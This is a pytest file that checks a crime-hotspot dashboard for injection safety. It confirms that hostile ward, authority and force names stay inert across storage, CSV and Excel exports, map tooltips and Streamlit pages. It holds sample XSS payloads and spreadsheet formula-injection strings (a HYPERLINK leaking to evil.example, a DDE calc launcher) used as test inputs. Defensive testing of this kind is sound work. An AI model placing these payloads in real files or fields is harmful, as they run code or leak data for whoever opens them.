"""Hostile strings — HTML, script and spreadsheet formulas — in ward, local authority and
police force names, crime types and locations, followed from the files through the store,
the ward counts and the hotspot list to every download and the map.

What must hold: the strings are kept as data (exactly as given, never run or parsed); in
CSV and Excel downloads a text cell starting with ``=``, ``+``, ``-`` or ``@`` is
neutralised with a leading apostrophe (so Excel shows text, never a formula); on the map,
tooltip values are HTML-escaped and the embedded GeoJSON cannot close the ``<script>``
it sits in. Ward tables are HTML built by ``dashboard.tables`` (every text escaped; the
corpus run below checks no tag from a file reaches an ``st.html``); other tables are
``st.dataframe``/``st.table``, which Streamlit renders as text; ``st.error``/
``st.markdown`` messages escape HTML too (``unsafe_allow_html``
is never set on user data) — see tests/dashboard/test_corpus.py::test_upload_page for a file name
with HTML in it.

The second half runs the whole hostile corpus (``tests.corpus.HOSTILE_TEXT``: Markdown
images and links, HTML, formulas, Streamlit colour, icon and emoji codes, LaTeX, bidi
overrides, very long and null-ish text…) as ward, local authority and force names
through every page (AppTest, analyst and partner), every download and the command line,
and serves a planted tracking image to a real browser that must never ask for it.
"""

from __future__ import annotations

import csv
import html
import http.server
import io
import json
import re
import threading
from typing import ClassVar

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
from shapely.geometry import box

from dashboard.safe_text import WORD_JOINER, md, md_table, plain
from hotspots.outputs import map_data as mapping
from hotspots.outputs import map_folium as maps
from hotspots.outputs.exports import (
    EXCEL_MAX_CHARS,
    FORMULA_START,
    Sheet,
    csv_bytes,
    excel_bytes,
    excel_value,
    hotspot_list_csv,
    hotspot_list_excel,
    hotspot_list_geojson,
    neutralise,
    ward_counts_csv,
)
from hotspots.stats.analysis import AnalysisSettings, analyse_ward_data, hotspot_list
from hotspots.store.base import Store
from hotspots.store.ingest import load_paths
from hotspots.store.ward_data import Selection, load_ward_data
from tests.conftest import (
    GRID_LSOA11,
    GRID_LSOA21,
    GRID_POPULATION,
    GRID_WARDS,
    POLICE_UK_HEADER,
    ROOT,
    X0,
    Y0,
    police_row,
    write_csv,
)
from tests.corpus import HOSTILE_TEXT

pytestmark = pytest.mark.slow

SCRIPT = "<script>alert(1)</script>"
IMG = '<img src=x onerror="alert(document.cookie)">'
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
CMD = "+cmd|' /C calc'!A0"
MINUS = "-1+1"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
#: Ward code → hostile ward name.
WARD_NAMES = {"X05000001": SCRIPT, "X05000002": IMG, "X05000003": HYPERLINK, "X05000004": CMD}
LA_NAMES = {"X06000001": MINUS, "X06000002": AT}
FORCE_NAME = "=1+2</script><script>alert('force')</script>"
CRIME_TYPE = "<script>alert('type')</script>=1+1"
LOCATION = '=HYPERLINK("http://evil.example","On or near <b>Evil</b> Street")'
FORMULAS = {HYPERLINK, CMD, MINUS, AT, FORCE_NAME}


def _write_reference(folder, names=WARD_NAMES, la_names=LA_NAMES, force=FORCE_NAME):
    folder.mkdir(parents=True, exist_ok=True)
    codes = list(GRID_WARDS)
    gdf = gpd.GeoDataFrame(
        {
            "WD22CD": codes,
            "WD22NM": [names[c] for c in codes],
            "LAD22CD": [GRID_WARDS[c][1] for c in codes],
            "LAD22NM": [la_names[GRID_WARDS[c][1]] for c in codes],
        },
        geometry=[
            box(X0 + v[3], Y0 + v[4], X0 + v[3] + 1000, Y0 + v[4] + 1000)
            for v in GRID_WARDS.values()
        ],
        crs="EPSG:27700",
    )
    paths = [folder / "wards.gpkg"]
    gdf.to_file(paths[0], driver="GPKG")
    paths.append(
        write_csv(
            folder / "lsoa21_ward22.csv",
            ["LSOA21CD", "WD22CD", "WD22NM", "LAD22CD", "LAD22NM"],
            [
                [lsoa, ward, names[ward], GRID_WARDS[ward][1], la_names[GRID_WARDS[ward][1]]]
                for lsoa, ward in GRID_LSOA21.items()
            ],
        )
    )
    paths.append(
        write_csv(
            folder / "lsoa11_lsoa21.csv",
            ["lsoa11_code", "change_code", "lsoa21_code"],
            [[a, c, b] for a, c, b in GRID_LSOA11],
        )
    )
    paths.append(
        write_csv(
            folder / "lad_pfa.csv",
            ["ltla24_code", "ltla24_name", "pfa24_code", "pfa24_name"],
            [[la, name, "X15000001", force] for la, name in la_names.items()],
        )
    )
    paths.append(
        write_csv(
            folder / "population_mid2022_lsoa11.csv",
            ["lsoa11_code", "total_population"],
            [[k, v] for k, v in GRID_POPULATION.items()],
        )
    )
    return paths


def _crimes(folder):
    rows, i = [], 0
    for n, lsoa in zip((9, 6, 4, 2, 5, 3), GRID_LSOA21, strict=True):
        for k in range(n):
            ctype = ("Violence and sexual offences", "Robbery", "Drugs")[k % 3]
            rows.append(police_row(f"c{i:03d}", lsoa=lsoa, ctype=ctype))
            i += 1
    for k, lsoa in enumerate(GRID_LSOA21):  # hostile crime type and location
        row = police_row(f"h{k:03d}", lsoa=lsoa, ctype=CRIME_TYPE)
        row[POLICE_UK_HEADER.index("Location")] = LOCATION
        row[POLICE_UK_HEADER.index("LSOA name")] = IMG
        rows.append(row)
    for row in rows:  # the force the rows name is the lookup's (hostile) force
        row[2] = row[3] = FORCE_NAME
    return write_csv(folder / "2023-01-grid-street.csv", POLICE_UK_HEADER, rows)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    store = Store(root / "store")
    load_paths(store, "auto", _write_reference(root / "reference"))
    load_paths(store, "crimes", [_crimes(root / "crimes")])
    data = load_ward_data(store, Selection("2023-01", "2023-01"))
    result = analyse_ward_data(data, AnalysisSettings(uncertainty_draws=200))
    table = hotspot_list(result, "police-uk-proxy (proxy)")
    return store, data, table


def _neutral(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_START) else value


def _assert_no_live_formula(cells) -> None:
    """No text cell may start like a formula, unless it is a plain number (``-2``)."""
    for cell in cells:
        if isinstance(cell, str) and cell.startswith(FORMULA_START):
            assert re.fullmatch(r"-\d+(\.\d+)?(e[+-]?\d+)?", cell), f"live formula: {cell!r}"


def test_strings_are_stored_as_given(hostile):
    store, data, _ = hostile
    wards = store.geography().wards.set_index("ward_code")
    assert wards["ward_name"].to_dict() == WARD_NAMES
    assert set(wards["local_authority_name"]) == set(LA_NAMES.values())
    assert set(wards["police_force"]) == {FORCE_NAME}
    crimes = store.crimes()
    assert (crimes["crime_type"] == CRIME_TYPE).sum() == len(GRID_LSOA21)
    # police.uk's Location and LSOA name are not kept at all
    text = [str(v) for v in crimes.to_numpy().ravel()]
    assert not any(LOCATION in t or IMG in t for t in text)
    assert data.counts.set_index("ward_code")["ward_name"].to_dict() == WARD_NAMES
    assert int(data.counts["sv_count"].sum()) > 0


def test_ward_counts_csv_neutralises_formulas(hostile):
    _, data, _ = hostile
    rows = list(csv.DictReader(io.StringIO(ward_counts_csv(data).decode("utf-8-sig"))))
    by_code = {r["ward_code"]: r for r in rows}
    for code, name in WARD_NAMES.items():
        assert by_code[code]["ward_name"] == _neutral(name)
    assert {r["local_authority_name"] for r in rows} == {_neutral(v) for v in LA_NAMES.values()}
    assert {r["police_force"] for r in rows} == {"'" + FORCE_NAME}
    assert by_code["X05000001"]["ward_name"] == SCRIPT  # text in a CSV, not HTML
    _assert_no_live_formula(v for r in rows for v in r.values())


def test_hotspot_list_csv_neutralises_formulas(hostile):
    _, _, table = hostile
    assert set(table["ward_name"]) == set(WARD_NAMES.values())
    rows = list(csv.DictReader(io.StringIO(hotspot_list_csv(table).decode("utf-8-sig"))))
    assert len(rows) == len(WARD_NAMES)
    assert {r["ward_name"] for r in rows} == {_neutral(v) for v in WARD_NAMES.values()}
    assert {r["local_authority_name"] for r in rows} == {_neutral(v) for v in LA_NAMES.values()}
    _assert_no_live_formula(v for r in rows for v in r.values())


def test_hotspot_list_excel_holds_no_formula(hostile):
    _, data, table = hostile
    book = openpyxl.load_workbook(io.BytesIO(hotspot_list_excel(table, data.metadata())))
    values = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                values.append(cell.value)
    sheet = book["Hotspots"]
    header = [c.value for c in sheet[1]]
    names = [r[header.index("Ward")] for r in sheet.iter_rows(min_row=2, values_only=True)]
    assert set(names) == {_neutral(v) for v in WARD_NAMES.values()}
    assert HYPERLINK not in values and "'" + HYPERLINK in values
    _assert_no_live_formula(values)


def test_geojson_download_carries_the_text_as_data(hostile):
    _, data, table = hostile
    doc = json.loads(hotspot_list_geojson(table, data.wards))
    names = {f["properties"]["ward_name"] for f in doc["features"]}
    # GeoJSON goes through the same writer as CSV: GIS tools hand its properties on to
    # spreadsheets, so text that would be a formula is neutralised here too.
    assert names == {_neutral(v) for v in WARD_NAMES.values()}
    assert SCRIPT in names and IMG in names  # JSON text, not HTML: kept as given


def _map_page(data) -> str:
    """The map as the Map page draws it: every shipped property but the fill colour is a
    tooltip field."""
    display = mapping.display_geometry(data.wards)
    shapes = display.merge(data.counts[["ward_code", "sv_count"]], on="ward_code")
    shapes = shapes.assign(fill="#fd8d3c", value=shapes["ward_name"])
    fields = [
        ("ward_name", "Ward"),
        ("local_authority_name", "Local authority"),
        ("police_force", "Force"),
        ("sv_count", "Serious violence"),
        ("value", "<i>Shown</i>"),
    ]
    geojson = mapping.to_geojson(shapes, [f for f, _ in fields] + ["fill"])
    m = maps.ward_map(
        geojson,
        "fill",
        [(SCRIPT, "#fd8d3c")],
        fields,
        {"name": "Drug offences: top 12 wards", "ward_codes": list(WARD_NAMES)},
        legend_title=IMG,
    )
    return maps.map_html(m)


def _unjson(page: str) -> str:
    """The page with the JSON escapes folium's ``tojson`` adds undone (what the browser's
    JavaScript sees once it has parsed the embedded GeoJSON)."""
    for code, char in (
        ("\\u003c", "<"),
        ("\\u003e", ">"),
        ("\\u0026", "&"),
        ("\\u0027", "'"),
        ('\\"', '"'),
    ):
        page = page.replace(code, char)
    return page


def test_map_escapes_names_in_tooltips_legend_and_payload(hostile):
    _, data, _ = hostile
    page = _map_page(data)
    # What the browser parses as HTML, and what the tooltip then puts in innerHTML:
    for text in (page, _unjson(page)):
        for raw in (SCRIPT, IMG, "<script>alert('force')", "<img", "<i>Shown"):
            assert raw not in text
    # as many <script> elements as a map of harmless names: nothing was injected
    benign = {c: f"Ward {i}" for i, c in enumerate(WARD_NAMES)}
    safe = data.wards.assign(
        ward_name=data.wards["ward_code"].map(benign),
        local_authority_name="LA",
        police_force="Force",
    )
    plain = _map_page(type(data)(**{**data.__dict__, "wards": safe}))
    assert page.count("<script") == plain.count("<script")
    assert page.lower().count("</script") == plain.lower().count("</script")
    # tooltip values and legend labels arrive HTML-escaped
    assert html.escape(SCRIPT) in _unjson(page) and html.escape(IMG) in _unjson(page)


def test_map_geojson_keeps_names_exact(hostile):
    """``hotspots.outputs.map_data.to_geojson`` is the payload, not the page: names stay exact
    (escaping is the page's job, done by ``dashboard.map_component.ward_map``)."""
    _, data, _ = hostile
    display = mapping.display_geometry(data.wards)
    geojson = mapping.to_geojson(display, ["ward_name", "local_authority_name"])
    assert {f["properties"]["ward_name"] for f in geojson["features"]} == set(WARD_NAMES.values())
    json.dumps(geojson)  # valid JSON


# ======================================================================================
# The hostile corpus as the names of a whole region, through every page and download

MONTHS = ("2023-01", "2023-02", "2023-03")
#: Labels of the corpus strings that name local authorities (the rest name wards only).
LA_LABELS = ("image-formula", "link", "colour", "rtl-override", "latex", "formula-at")
CORPUS_FORCE = "=1+2 ![f](http://127.0.0.1:9/force.png) :red[Force] <b>Police</b>"
#: Streamlit's own tests (its Markdown component, 1.67): emoji shortcodes in the source,
#: and the links GitHub-flavoured Markdown makes of bare addresses after parsing.
ST_EMOJI = re.compile(r":(?!material/|streamlit:)[\w+-][\w_+-]*:")
GFM_URL = re.compile(r"(https?://|www(?=\.))([-.\w]+)([^ \t\r\n]*)", re.IGNORECASE)
GFM_EMAIL = re.compile(r"([-.\w+]+)@([-\w]+(?:\.[-\w]+)+)", re.ASCII)


class _Tracker(http.server.BaseHTTPRequestHandler):
    hits: ClassVar[list[str]] = []

    def do_GET(self):
        type(self).hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def tracker():
    """A local server standing in for the attacker's: it counts every request."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Tracker)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


def _as_stored(text: str) -> str:
    """A name as the loaders keep it (leading and trailing white space stripped)."""
    return text.strip()


def _shown(text: str) -> str:
    """A name as a page shows it: line breaks and other control characters as spaces."""
    return re.sub("[\x00-\x1f\x7f-\x9f\u2028\u2029]", " ", text)


def _corpus_names(port: int) -> tuple[dict, dict, dict]:
    """(ward code → name, ward code → LA code, LA code → LA name) for the corpus store."""
    texts = {k: v.replace("{port}", str(port)) for k, v in HOSTILE_TEXT.items()}
    labels = list(texts)
    wards = {f"X05{i + 1:06d}": _as_stored(texts[k]) for i, k in enumerate(labels)}
    la_of = {code: f"X06{i // 5 + 1:06d}" for i, code in enumerate(wards)}
    las = {f"X06{j + 1:06d}": _as_stored(texts[k]) for j, k in enumerate(LA_LABELS)}
    assert set(la_of.values()) == set(las)
    return wards, la_of, las


def _write_corpus_region(folder, port: int):
    """Boundaries, lookups, population and three months of crimes for one ward per corpus
    string, in local authorities named by corpus strings; returns (reference, crimes)."""
    wards, la_of, las = _corpus_names(port)
    codes = list(wards)
    lsoa = {c: f"X01{i + 1:06d}" for i, c in enumerate(codes)}
    folder.mkdir(parents=True, exist_ok=True)
    gdf = gpd.GeoDataFrame(
        {
            "WD22CD": codes,
            "WD22NM": [wards[c] for c in codes],
            "LAD22CD": [la_of[c] for c in codes],
            "LAD22NM": [las[la_of[c]] for c in codes],
        },
        geometry=[
            box(
                X0 + 1000 * (i % 6),
                Y0 + 1000 * (i // 6),
                X0 + 1000 * (i % 6) + 1000,
                Y0 + 1000 * (i // 6) + 1000,
            )
            for i in range(len(codes))
        ],
        crs="EPSG:27700",
    )
    reference = [folder / "wards.gpkg"]
    gdf.to_file(reference[0], driver="GPKG")
    reference.append(
        write_csv(
            folder / "lsoa21_ward22.csv",
            ["LSOA21CD", "WD22CD", "WD22NM", "LAD22CD", "LAD22NM"],
            [[lsoa[c], c, wards[c], la_of[c], las[la_of[c]]] for c in codes],
        )
    )
    reference.append(
        write_csv(
            folder / "lsoa11_lsoa21.csv",
            ["lsoa11_code", "change_code", "lsoa21_code"],
            [[lsoa[c], "U", lsoa[c]] for c in codes],
        )
    )
    reference.append(
        write_csv(
            folder / "lad_pfa.csv",
            ["ltla24_code", "ltla24_name", "pfa24_code", "pfa24_name"],
            [[la, name, "X15000001", CORPUS_FORCE] for la, name in las.items()],
        )
    )
    reference.append(
        write_csv(
            folder / "population_mid2022_lsoa11.csv",
            ["lsoa11_code", "total_population"],
            [[lsoa[c], 150 + 40 * i] for i, c in enumerate(codes)],
        )
    )
    crimes = []
    kinds = ("Violence and sexual offences", "Robbery", "Drugs")
    for m, month in enumerate(MONTHS):
        rows = []
        for i, c in enumerate(codes):
            n = (1, 2, 3, 6, 9, 14)[(i + m) % 6]
            rows += [
                police_row(f"{month}-{i}-{k}", month=month, lsoa=lsoa[c], ctype=kinds[(k + i) % 3])
                for k in range(n)
            ]
        for row in rows:  # the force the rows name is the lookup's (hostile) force
            row[2] = row[3] = CORPUS_FORCE
        crimes.append(write_csv(folder / f"{month}-grid-street.csv", POLICE_UK_HEADER, rows))
    return reference, crimes


@pytest.fixture(scope="module")
def corpus_store(tmp_path_factory, tracker):
    root = tmp_path_factory.mktemp("corpus")
    store = Store(root / "store")
    reference, crimes = _write_corpus_region(root / "files", tracker.server_port)
    load_paths(store, "auto", reference)
    load_paths(store, "crimes", crimes)
    wards, la_of, las = _corpus_names(tracker.server_port)
    return store, wards, la_of, las


def test_corpus_names_are_stored_as_given(corpus_store):
    store, wards, _, las = corpus_store
    geo = store.geography().wards.set_index("ward_code")
    assert geo["ward_name"].to_dict() == wards
    assert set(geo["local_authority_name"]) == set(las.values())
    assert set(geo["police_force"]) == {CORPUS_FORCE}
    assert len(wards) == len(HOSTILE_TEXT)


# -- the Markdown escape --------------------------------------------------------------


def _bare(source: str) -> str:
    """A Markdown source with every backslash-escaped character blanked out: what is left
    is what a Markdown parser could read as syntax."""
    return re.sub(r"\\[!-/:-@\[-`{-~]", "\x00", source)


def assert_inert(source: str, where: str = "") -> None:
    """No Markdown, HTML or Streamlit syntax that text from a file could have brought:
    images, links, tags, directives (colours, icons), LaTeX, emoji shortcodes, and no bare
    address that GitHub-flavoured Markdown would turn into a link."""
    bare = _bare(source)
    for pattern, what in (
        (r"!\[", "image"),
        (r"\]\(", "link"),
        (r"\]\[|\]:", "reference"),
        (r"<[A-Za-z/!?]", "HTML tag"),
        (r":[\w-]+\[", "directive"),
        (r"::", "directive"),
        (r":material/", "icon"),
        (r"\$", "LaTeX"),
        (r"`", "code"),
        (r"&[#\w]+;", "entity"),
    ):
        assert not re.search(pattern, bare), f"{where}: {what} in {source[:300]!r}"
    text = plain(source).replace("\x00", "")
    with_joiners = re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", source)
    assert not ST_EMOJI.search(source), f"{where}: emoji shortcode in {source[:300]!r}"
    assert not re.search(r":[\w+-]+:", with_joiners), f"{where}: shortcode {source[:300]!r}"
    for rx in (GFM_URL, GFM_EMAIL):
        assert not rx.search(with_joiners), f"{where}: bare address in {source[:300]!r}"
    assert text  # something readable is left


@pytest.mark.parametrize("label", list(HOSTILE_TEXT))
def test_md_shows_every_corpus_string_as_given(label):
    text = HOSTILE_TEXT[label].replace("{port}", "8501")
    out = md(text)
    assert_inert(out, label)
    assert plain(out) == _shown(text)
    # one line, whatever the text holds: a line break could start a block
    assert "\n" not in out and "\r" not in out
    # inside a sentence, the sentence keeps its own syntax
    sentence = f"1. **{md(text)}** ({md('Powys')})"
    assert sentence.startswith("1. **") and sentence.endswith("(Powys)")


def test_md_contains_bidi_overrides_and_keeps_plain_names_unchanged():
    assert md("Ward \u202eabc") == "\u2068Ward \u202eabc\u2069"
    assert md("Llanfair Caereinion") == "Llanfair Caereinion"
    assert md("Ynys Môn") == "Ynys Môn"
    assert md("Ystradgynlais (North)") == "Ystradgynlais \\(North\\)"
    assert md(None) == "" and md(float("nan")) == ""
    assert md("a@b.example") == "a\\@" + WORD_JOINER + "b.example"
    assert md("cantre-gwaelod") == "cantre-gwaelod" and md("police.uk") == "police.uk"
    assert md("- a.") == "\\- a\\." and md("1. x") == "1\\. x"


def test_md_table_escapes_cells_and_headers_keeps_numbers():
    frame = pd.DataFrame({"![h](x)": ["[a](b)", None], "n": [1, 2]})
    out = md_table(frame)
    assert list(out.columns) == ["\\!\\[h\\]\\(x\\)", "n"]
    assert out.iloc[0, 0] == "\\[a\\]\\(b\\)" and pd.isna(out.iloc[1, 0])
    assert out["n"].tolist() == [1, 2]


# -- the writers ------------------------------------------------------------------------


@pytest.mark.parametrize("label", list(HOSTILE_TEXT))
def test_writers_neutralise_every_corpus_string(label):
    text = HOSTILE_TEXT[label].replace("{port}", "8501")
    frame = pd.DataFrame(
        {"name": [text, "Plain"], "count": [3, -2], "rate": [1.5, None], "mixed": [-4, text]}
    )
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8-sig"))))
    assert rows[0] == ["name", "count", "rate", "mixed"]
    assert rows[1] == [_neutral(text), "3", "1.5", "-4"]
    assert rows[2] == ["Plain", "-2", "", _neutral(text)]
    book = openpyxl.load_workbook(io.BytesIO(excel_bytes([Sheet("S", frame)])))
    ws = book["S"]
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert all(c.data_type != "f" for c in cells)
    # (XML reads a CR back as LF)
    expected = excel_value(text).replace("\r", "\n")
    assert excel_value(text) == (
        _neutral(text)
        if len(text) < EXCEL_MAX_CHARS
        else _neutral(text)[: EXCEL_MAX_CHARS - 1] + "…"
    )
    assert [c.value for c in cells] == [expected, 3, 1.5, -4, "Plain", -2, None, expected]
    assert [c.data_type for c in cells] == ["s", "n", "n", "n", "s", "n", "n", "s"]


def test_neutralise_is_the_owasp_rule():
    for text in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-", "+", "=", "@"):
        assert neutralise(text) == "'" + text
    for text in ("-2", "+3", "-1.5", "1e5", "-2.5e-3", "Ward", "'=1", " =1", "<5", ""):
        assert neutralise(text) == text
    assert excel_value("a\x01b") == "a\ufffdb"  # Excel cannot hold C0 controls
    assert excel_value(float("inf")) is None and excel_value(pd.NA) is None
    long = excel_value("=" + "x" * 40000)
    assert len(long) == EXCEL_MAX_CHARS and long.startswith("'=") and long.endswith("…")


# -- every page, analyst and partner (AppTest) -------------------------------------------

#: Text from the corpus that must never reach a Markdown body unescaped (searched after
#: the escaped characters are blanked out, so ``\![`` does not count).
DANGER = (
    "![",
    "](",
    "][",
    "<img",
    "<script",
    "<b>",
    "<http",
    ":red[",
    ":blue-background[",
    ":rainbow[",
    ":small[",
    ":material/home:",
    ":smile:",
    ":streamlit:",
    ":+1:",
    "$x^2$",
    "$$",
    "&lt;",
    "&amp;",
    "&copy;",
    "**bold**",
    "_it_",
    "~~strike~~",
    "`code`",
    "# Heading",
    "- item",
    "> quote",
    "|---|",
    "\\*not bold\\*",
)


def _markdown_sources(at) -> list[tuple[str, str]]:
    """(kind, Markdown source) of every element and label of an AppTest run that Streamlit
    renders as Markdown: markdown, captions, headings, alerts, expander and widget labels
    and help, metric labels and values, and ``st.table`` cells."""
    out: list[tuple[str, str]] = []

    def walk(node):
        proto = getattr(node, "proto", None)
        kind = type(node).__name__
        if proto is not None:
            if kind == "Table":
                frame = node.value
                out.extend(
                    (kind, str(v))
                    for v in [*frame.columns, *frame.to_numpy().ravel()]
                    if isinstance(v, str)
                )
            for name in ("body", "label", "help", "caption"):
                value = getattr(proto, name, None) if hasattr(proto, name) else None
                if isinstance(value, str) and value:
                    out.append((f"{kind}.{name}", value))
            expandable = getattr(proto, "expandable", None)
            if expandable is not None and getattr(expandable, "label", ""):
                out.append((f"{kind}.expander", expandable.label))
        for child in getattr(node, "children", {}).values():
            walk(child)

    walk(at._tree)
    from dashboard.accessibility import own_html  # the app's fixed style and lang script

    own = {h.strip() for h in own_html()}
    return [(kind, source) for kind, source in out if source.strip() not in own]


def assert_page_inert(at, where: str) -> str:
    """No corpus markup in any Markdown the page sent; returns all the text a reader sees
    (joined), for checks that names are shown as given."""
    assert not at.exception, f"{where}: {at.exception[0].value}"
    seen = []
    for kind, source in _markdown_sources(at):
        if kind.startswith("Html."):  # st.html is HTML, not Markdown: escaped, no tag from a file
            assert not re.search(r"<(img|script|b>|http)", source), f"{where} {kind}"
            seen.append(html.unescape(re.sub(r"<[^>]+>", " ", source)))
            continue
        bare = _bare(source)
        for token in DANGER:
            assert token not in bare, f"{where} {kind}: {token!r} in {source[:400]!r}"
        unescaped = re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", source)
        for rx in (GFM_URL, GFM_EMAIL):
            found = rx.search(unescaped)
            assert not found, f"{where} {kind}: address {found.group(0)!r} becomes a link"
        seen.append(plain(source))
    return "\n".join(seen)


class _Downloads:
    """Keeps the media file manager of each AppTest run (Streamlit's test runtime drops it
    when the run ends), so a test can read what a download button would give."""

    def __init__(self, monkeypatch):
        import streamlit.testing.v1.app_test as app_test
        from streamlit.runtime.media_file_manager import MediaFileManager

        self.managers: list = []
        managers = self.managers

        class Keeping(MediaFileManager):
            def __init__(self, *args, **kwargs):
                super().__init__(*args, **kwargs)
                managers.append(self)

        monkeypatch.setattr(app_test, "MediaFileManager", Keeping)

    def data(self, at, label: str) -> bytes:
        """The bytes of the download button ``label`` of the last run (made as a click
        would make them, for buttons whose file is built on click)."""
        (button,) = [b for b in at.get("download_button") if b.proto.label == label]
        mgr = self.managers[-1]
        url = (
            mgr.execute_deferred(button.proto.deferred_file_id)
            if button.proto.deferred_file_id
            else button.proto.url
        )
        return mgr._storage.get_file(url.rsplit("/", 1)[-1]).content


USERS = {"analyst": "ann.lyst", "partner": "c@evil.example"}


@pytest.fixture(params=["analyst", "partner"])
def corpus_app(request, corpus_store, tmp_path, monkeypatch):
    """The dashboard over the corpus store, signed in as an analyst or a partner."""
    from streamlit.testing.v1 import AppTest

    from dashboard.auth import User
    from hotspots.access.users import add_user

    store = corpus_store[0]
    role = request.param
    accounts = tmp_path / "accounts.toml"
    add_user(accounts, USERS[role], role, "a-long-password-1", rounds=4)
    monkeypatch.setenv("HOTSPOTS_ACCOUNTS", str(accounts))
    monkeypatch.setenv("HOTSPOTS_AUDIT_LOG", str(tmp_path / "audit.jsonl"))
    monkeypatch.setenv("HOTSPOTS_DATA_DIR", str(store.root))
    downloads = _Downloads(monkeypatch)
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=180)
    at.session_state["user"] = User(USERS[role], role, "password")
    return at, role, downloads


def _open_page(at, page: str, **query):
    at.query_params.clear()
    at.query_params.update({"def": "police-uk-proxy", **query})
    if page:
        at.switch_page(page)
    return at.run()


@pytest.mark.slow
def test_home_shows_every_corpus_name_as_text(corpus_app, corpus_store):
    """Home's "Top five wards now", one local authority at a time (each holds at most five
    wards, so every corpus name is listed): names shown exactly, nothing markup."""
    at, role, _ = corpus_app
    _, wards, la_of, las = corpus_store
    for la, la_name in las.items():
        _open_page(at, "", area=la_name)
        text = assert_page_inert(at, f"Home {role} {la_name[:30]!r}")
        links = [e.proto for e in at.get("page_link") if "ward=" in e.proto.query_string]
        mine = [c for c in wards if la_of[c] == la]
        # one link per ward, to its own profile: no name broke out of its link
        assert sorted(p.query_string.rsplit("ward=", 1)[1] for p in links) == sorted(mine)
        for i, link in enumerate(links, 1):
            assert link.page == "profile"
            assert re.fullmatch(rf"{i}\. .* \(.*\)", link.label, re.S), link.label
            assert plain(link.label).endswith(f"({_shown(la_name)})")
        top = " ".join(plain(p.label) for p in links)
        for code in mine:
            assert _shown(wards[code]) in top, wards[code]
        assert _shown(la_name) in text
    # the signed-in user's name is text too (an e-mail-like name is no mailto link)
    assert any(
        plain(c.value).startswith(f"Signed in as **{USERS[role]}**") for c in at.sidebar.caption
    )


PROFILE_LABELS = (
    "image-formula",
    "link",
    "autolink",
    "colour",
    "material",
    "latex",
    "rtl-override",
    "blocks",
    "long",
    "img-onerror",
)


@pytest.mark.slow
def test_profile_title_and_caption_show_names_as_text(corpus_app, corpus_store):
    at, role, _ = corpus_app
    _, wards, la_of, las = corpus_store
    codes = {label: code for label, code in zip(HOSTILE_TEXT, wards, strict=True)}
    for label in PROFILE_LABELS:
        code = codes[label]
        _open_page(at, "pages/profile.py", ward=code)
        text = assert_page_inert(at, f"Profile {role} {label}")
        assert [plain(t.value) for t in at.title] == [_shown(wards[code])]
        assert plain(at.caption[0].value).startswith(
            f"{_shown(las[la_of[code]])} · {CORPUS_FORCE} · "
        )
        assert _shown(wards[code]) in text


@pytest.mark.slow
def test_other_pages_send_no_markup_from_names(corpus_app, corpus_store):
    at, role, downloads = corpus_app
    _, wards, la_of, las = corpus_store
    for page in ("pages/map.py", "pages/hotspots.py", "pages/data.py", "pages/method.py"):
        _open_page(at, page)
        if page == "pages/map.py":
            at.run()  # the map's first run draws no controls; its second does
        assert_page_inert(at, f"{page} {role}")
        if page == "pages/map.py":  # the map as one HTML file: names are text there too
            html_file = downloads.data(at, "Download this map (web page)").decode("utf-8")
            for text in (html_file, _unjson(html_file)):
                for raw in (
                    "<img src=x onerror",
                    "<script>alert('ward')",
                    "<b>bold</b>",
                    "<b>Police</b>",
                ):
                    assert raw not in text, (role, raw)
            onerror = list(wards.values())[list(HOSTILE_TEXT).index("img-onerror")]
            assert html.escape(onerror) in _unjson(html_file)
    la_name = las["X06000001"]
    _open_page(at, "pages/pack.py", area=la_name)
    text = assert_page_inert(at, f"pack {role}")
    assert _shown(la_name) in text  # the source line names the area as given
    summary = "\n".join(plain(m.value) for m in at.markdown if m.value.startswith("- "))
    named = [w for c, w in wards.items() if la_of[c] == "X06000001" and _shown(w) in summary]
    assert named, summary  # the summary names wards, as given
    xlsx = downloads.data(at, "Download Excel")
    _assert_workbook_neutral(xlsx, set(wards.values()) | set(las.values()))
    from pypdf import PdfReader

    # the PDF is plain text: names as given (it has no markup to run and no formulas)
    made = downloads.data(at, "Download PDF")
    pdf = PdfReader(io.BytesIO(made))
    assert f"Serious violence targeting pack: {la_name}" in " ".join(
        pdf.pages[0].extract_text().split()
    )


def _assert_workbook_neutral(xlsx: bytes, names: set[str]) -> list:
    """Every cell of a workbook: never a formula; text that came from a name equals the
    name, with the apostrophe only where the name would be a formula. Returns the text
    cells."""
    book = openpyxl.load_workbook(io.BytesIO(xlsx))
    texts = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not cell.value.startswith(FORMULA_START), (ws.title, cell.value)
    for name in names:
        if name in texts or _neutral(name) in texts:
            assert name == _neutral(name) or name not in texts, name
    return texts


@pytest.mark.slow
def test_hotspot_list_downloads_hold_no_live_formula(corpus_app, corpus_store, tmp_path):
    """The Hotspot list's CSV, Excel and GeoJSON as the page's buttons give them, for the
    local authority named ``=HYPERLINK(…) ![t](…)``: names neutralised only where they
    would be formulas, no cell a formula (the Area in "Method and data" included), and
    the analyst's CSV byte-identical to the command line's."""
    from hotspots.cli import main

    at, role, downloads = corpus_app
    store, wards, la_of, las = corpus_store
    la_name = las["X06000001"]
    assert la_name.startswith("=HYPERLINK(")
    mine = {w for c, w in wards.items() if la_of[c] == "X06000001"}
